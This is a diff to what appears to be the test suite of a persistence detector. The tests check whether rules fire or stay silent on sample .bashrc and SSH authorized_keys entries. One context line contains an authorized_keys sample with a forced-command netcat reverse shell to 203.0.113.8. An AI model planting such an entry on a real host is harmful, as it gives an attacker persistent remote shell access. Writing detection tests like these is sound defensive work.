@@ -59,3 +59,10 @@ silent("alias_sudo_idiom", "shell_alias_shadows_command",
 fires("authorized_keys_upper_case_command", "ssh_authorized_key_forced_command", "critical",
       sample("authorized_keys-upper", f"no-pty,COMMAND=\"nc 203.0.113.8 4444 -e /bin/sh\" {KEY} ops@build\n"),
       "home/.ssh/authorized_keys", also="reverse_shell")
+silent("bashrc_quoting_harmless", "shell_startup_runs_payload",
+       sample("bashrc-quoting-ok", "alias ll=$'ls\\x20-la'\n\"gi\"\"t\" config --global pull.rebase true\n"
+              "a=ls;b=-la; $a $b | less\n{cp,-n,~/.inputrc.dist,~/.inputrc}\nxxd -r -p ~/fw.hex > ~/fw.bin\n"),
+       "home/.bashrc", also="shell_startup_file_changed")
+silent("authorized_keys_upper_case_restrict", "ssh_authorized_key_forced_command",
+       sample("authorized_keys-upper-restrict", f"RESTRICT,FROM=\"10.0.0.0/8\",PORT-FORWARDING {KEY} ci@runner\n"),
+       "home/.ssh/authorized_keys", also="ssh_authorized_key_added")
